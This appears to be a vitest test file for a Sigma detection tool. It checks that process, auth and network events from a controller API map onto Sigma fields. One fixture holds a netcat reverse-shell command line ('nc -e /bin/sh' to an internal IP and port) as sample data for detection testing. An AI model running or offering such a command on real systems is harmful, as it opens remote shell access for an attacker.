import { describe, expect, it } from "vitest";
import { parseEventLine } from "../../src/sigma";

/** `rules test` takes events exactly as `GET /api/v1/events` returns them, so users can replay what they see. */
describe("rules test input: events as the controller's API returns them", () => {
  it("maps an API process event (short enum names, ISO time) onto Sigma fields", () => {
    const ev = parseEventLine({
      id: "67",
      agentId: "a1",
      seq: 67,
      type: "process",
      action: "start",
      eventTime: "2026-11-27T16:07:44.540Z",
      receivedAt: "2026-11-27T16:07:45.653Z",
      process: { action: "start", pid: 20390, ppid: 20388, exe: "/usr/bin/nc", commandLine: "nc -e /bin/sh 10.0.0.1 4444", user: "root", cwd: "/tmp" },
    })!;
    expect(ev.logsource).toEqual({ product: "linux", category: "process_creation" });
    expect(ev.timeMs).toBe(Date.parse("2026-11-27T16:07:44.540Z"));
    expect(ev.fields).toMatchObject({ AgentId: "a1", Image: "/usr/bin/nc", CommandLine: "nc -e /bin/sh 10.0.0.1 4444", ProcessId: 20390, User: "root" });
  });

  it("maps auth and network events, including direction", () => {
    const auth = parseEventLine({
      id: "1",
      agentId: "a1",
      seq: 1,
      type: "auth",
      action: "login_failure",
      eventTime: "2026-01-01T00:00:00Z",
      receivedAt: "2026-01-01T00:00:01Z",
      auth: { action: "login_failure", user: "root", sourceIp: "203.0.113.5", service: "sshd", method: "password" },
    })!;
    expect(auth.logsource).toMatchObject({ category: "authentication", service: "sshd" });
    expect(auth.fields).toMatchObject({ AuthAction: "login_failure", SourceIp: "203.0.113.5", Outcome: "failure" });
    const net = parseEventLine({
      id: "2",
      agentId: "a1",
      seq: 2,
      type: "network",
      action: "open",
      eventTime: "2026-01-01T00:00:00Z",
      receivedAt: "2026-01-01T00:00:01Z",
      network: { action: "open", protocol: "tcp", localAddress: "10.0.0.5", localPort: 40000, remoteAddress: "198.51.100.1", remotePort: 443, direction: "outbound" },
    })!;
    expect(net.fields).toMatchObject({ DestinationIp: "198.51.100.1", DestinationPort: 443, Initiated: "true" });
  });

  it("leaves flat Sigma events alone", () => {
    const flat = parseEventLine({ type: "whatever", Image: "/bin/sh" })!;
    expect(flat.fields).toEqual({ type: "whatever", Image: "/bin/sh" });
  });
});
